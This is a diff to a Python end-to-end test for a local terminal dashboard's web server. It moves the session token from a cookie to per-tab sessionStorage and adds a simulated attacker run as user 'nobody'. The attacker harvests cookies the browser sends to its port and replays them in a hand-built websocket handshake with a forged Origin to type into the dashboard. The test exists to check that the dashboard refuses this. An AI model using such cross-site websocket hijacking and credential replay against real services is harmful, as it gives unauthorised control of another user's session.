@@ -13,8 +13,9 @@ MODE ``use``: the first frame (and how long it took), the environments table, ``
 ``h``, ``e``, ``y``, the palette's screenshot, ``/``, a closed tab, a second tab and Ctrl+C.
 ``term`` and ``kill``: a tab open, then SIGTERM or SIGKILL to the server alone.
 ``late``: a tab open until the demo is some steps in, then a second tab: what each shows.
-``attack``: the dashboard open in one tab (so the browser holds its cookie), then a page
-from another port of 127.0.0.1 that opens the dashboard's websocket and frames its page.
+``attack``: the dashboard open in one tab (so the browser holds its token), then another
+account's page on another port of 127.0.0.1, which opens the dashboard's websocket and
+frames its page, and that account replaying whatever the browser sent it.
 """
 
 from __future__ import annotations
@@ -27,9 +28,8 @@ import signal
 import subprocess
 import sys
 import tempfile
-import threading
 import time
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+import urllib.request
 from pathlib import Path
 from typing import Any
 
@@ -46,6 +46,8 @@ from tests.support.real.browser import (
 )
 from tests.support.real.serve_process import TabDashboard, tab_dashboards, tab_hosts
 from tests.support.waiting import poll_until
+
+from envtui.commands.serve.web_page import STORAGE_KEY
 
 PORT = 47652
 ORIGIN = f"http://127.0.0.1:{PORT}"
@@ -168,11 +170,14 @@ def use(
         page, lambda s: "filter environments" in s, "the filter box"
     )
     page.screenshot(path=seen["artefact"])
+    seen["stored_token"] = page.evaluate(f"sessionStorage.getItem({STORAGE_KEY!r}) !== null")
+    page.reload()  # the token is in the tab's sessionStorage, no longer in its address
+    seen["reload_screen"] = wait_for_screen(page, lambda s: "environments" in s, "a reload")
     first = dashboards(server)
     seen["first_tab"] = len(first)
     page.close()
     seen["closed_tab_ended"] = _waited(lambda: ended(first))
-    ready_tab(context, ORIGIN + "/")  # the browser keeps the token's cookie for the session
+    ready_tab(context, url)  # a new tab needs the printed address: the token is per tab
     running = dashboards(server)
     os.killpg(server.pid, signal.SIGINT)  # Ctrl+C in the server's terminal
     return running
@@ -210,7 +215,7 @@ def late(
     both then show the same step and table at once (a tab's own demo would start again)."""
     early = ready_tab(context, url)
     seen["early_step"] = step_shown(wait_for_screen(early, lambda s: step_shown(s) >= 4, "step 4"))
-    late_tab = ready_tab(context, ORIGIN + "/")
+    late_tab = ready_tab(context, url)
     seen["late_first_step"] = step_shown(screen(late_tab))
     deadline = time.monotonic() + ARRIVAL
     same = False
@@ -231,6 +236,7 @@ def late(
 ATTACKER_PAGE = f"""<!doctype html><html><body><pre id="out">waiting</pre>
 <iframe id="frame" src="{ORIGIN}/"></iframe><script>
 let got = "", frames = 0;
+window.stored = sessionStorage.length;
 const ws = new WebSocket("ws://127.0.0.1:{PORT}/ws?width=120&height=40");
 ws.binaryType = "arraybuffer";
 ws.onopen = () => {{ document.title = "OPEN"; ws.send(JSON.stringify(["stdin", "?"])); }};
@@ -240,52 +246,108 @@ ws.onmessage = (e) => {{ frames++;
 ws.onerror = () => {{ document.title = "ERROR"; }};
 ws.onclose = (e) => {{ document.title = "CLOSED " + e.code; window.frames_seen = frames; }};
 </script></body></html>"""
-"""What a page on another origin would do: drive the dashboard's websocket (a browser sends
-the dashboard's cookie along, since another port of 127.0.0.1 is the same site) and show
-the dashboard's page in a frame."""
+"""What a page on another origin would do in the browser: drive the dashboard's websocket
+and show the dashboard's page in a frame."""
+ATTACKER = r"""
+import base64, json, os, socket, sys
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+PORT, TARGET = int(sys.argv[1]), int(sys.argv[2])
+PAGE = sys.stdin.buffer.read()
+seen = []
 
+def replay():
+    lines = [f"GET /ws?width=120&height=40 HTTP/1.1", f"Host: 127.0.0.1:{TARGET}",
+             "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13",
+             "Sec-WebSocket-Key: " + base64.b64encode(os.urandom(16)).decode(),
+             f"Origin: http://127.0.0.1:{TARGET}"]
+    lines += [f"Cookie: {c}" for c in seen[-1:]]
+    got = 0
+    with socket.create_connection(("127.0.0.1", TARGET), timeout=10) as s:
+        s.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
+        answer = s.recv(65536).split(b"\r\n", 1)[0].decode()
+        if " 101 " in answer:
+            payload, mask = b'["stdin", "?"]', os.urandom(4)
+            s.sendall(bytes([0x81, 0x80 | len(payload)]) + mask
+                      + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))
+            try:
+                while got < 10000 and (chunk := s.recv(65536)):
+                    got += len(chunk)
+            except OSError:
+                pass
+    return {"status": answer, "bytes": got, "cookies": list(seen), "uid": os.getuid()}
 
-class AttackerPage(BaseHTTPRequestHandler):
-    def do_GET(self) -> None:
-        body = ATTACKER_PAGE.encode()
+class Attacker(BaseHTTPRequestHandler):
+    def do_GET(self):
+        if self.path == "/replay":
+            body, kind = json.dumps(replay()).encode(), "application/json"
+        else:
+            if self.headers.get("Cookie"):
+                seen.append(self.headers["Cookie"])
+            body, kind = PAGE, "text/html; charset=utf-8"
         self.send_response(200)
-        self.send_header("Content-Type", "text/html; charset=utf-8")
+        self.send_header("Content-Type", kind)
         self.send_header("Content-Length", str(len(body)))
         self.end_headers()
         self.wfile.write(body)
 
-    def log_message(self, format: str, *args: Any) -> None:
-        """Quiet: the scenario's output is its JSON."""
+    def log_message(self, *args):
+        pass
+
+ThreadingHTTPServer(("127.0.0.1", PORT), Attacker).serve_forever()
+"""
+"""Another local account's server (run as ``nobody``): it serves :data:`ATTACKER_PAGE`,
+keeps whatever credential the user's browser sends along to its port (a cookie of
+127.0.0.1 would be), and on ``/replay`` opens the dashboard's websocket itself with it and
+an ``Origin`` of its choosing, then types ``?``."""
+
+
+def start_attacker() -> subprocess.Popen[bytes]:
+    """:data:`ATTACKER` as ``nobody``, listening on :data:`ATTACKER_PORT`."""
+    attacker = subprocess.Popen(
+        ["setpriv", "--reuid", "nobody", "--regid", "nogroup", "--clear-groups",
+         "/usr/bin/python3", "-c", ATTACKER, str(ATTACKER_PORT), str(PORT)],
+        stdin=subprocess.PIPE, cwd="/",
+    )  # fmt: skip
+    assert attacker.stdin is not None
+    attacker.stdin.write(ATTACKER_PAGE.encode())
+    attacker.stdin.close()
+    wait_for_port("127.0.0.1", ATTACKER_PORT)
+    return attacker
 
 
 def attack(
     context: BrowserContext, server: subprocess.Popen[bytes], url: str, seen: dict[str, Any]
 ) -> list[TabDashboard]:
-    """The dashboard in one tab, then the attacker's page in another: what it got, and how
+    """The dashboard in one tab, then another account's page in another tab of the same
+    browser, and that account replaying what the browser sent it: what each got, and how
     many dashboards ran meanwhile (the one tab's, if the attack is refused)."""
     ready_tab(context, url)
     seen["cookies"] = [c["name"] for c in context.cookies(ORIGIN)]
     before = dashboards(server)
-    attacker = ThreadingHTTPServer(("127.0.0.1", ATTACKER_PORT), AttackerPage)
-    threading.Thread(target=attacker.serve_forever, daemon=True).start()
+    most = len(before)
+    attacker = start_attacker()
     try:
         page = context.new_page()
         page.goto(f"http://127.0.0.1:{ATTACKER_PORT}/")
-        most = len(before)
-        deadline = time.monotonic() + 8  # the repro's page had the screen within 2 s
-        while time.monotonic() < deadline:
+        deadline = time.monotonic() + ARRIVAL
+        while not page.title().startswith(("CLOSED", "ERROR", "OPEN")):
+            assert time.monotonic() < deadline, "the attacker's websocket never ended"
             most = max(most, len(dashboards(server)))
-            page.wait_for_timeout(100)  # the poll interval of this bounded watch
+            page.wait_for_timeout(100)  # the poll interval of this bounded wait
+        with urllib.request.urlopen(f"http://127.0.0.1:{ATTACKER_PORT}/replay", timeout=60) as r:
+            seen["replay"] = json.loads(r.read())
+        most = max(most, len(dashboards(server)))
         seen["attack_title"] = page.title()
         seen["attack_text"] = page.inner_text("#out")
         seen["attack_frames"] = page.evaluate("window.frames_seen ?? -1")
+        seen["attack_storage"] = page.evaluate("window.stored")
         seen["frame_urls"] = [frame.url for frame in page.frames[1:]]
         seen["dashboards_before_attack"] = len(before)
         seen["dashboards_during_attack"] = most
         page.close()
     finally:
-        attacker.shutdown()
-        attacker.server_close()
+        attacker.terminate()
+        attacker.wait(timeout=ARRIVAL)
     running = dashboards(server)
     os.killpg(server.pid, signal.SIGINT)
     return running
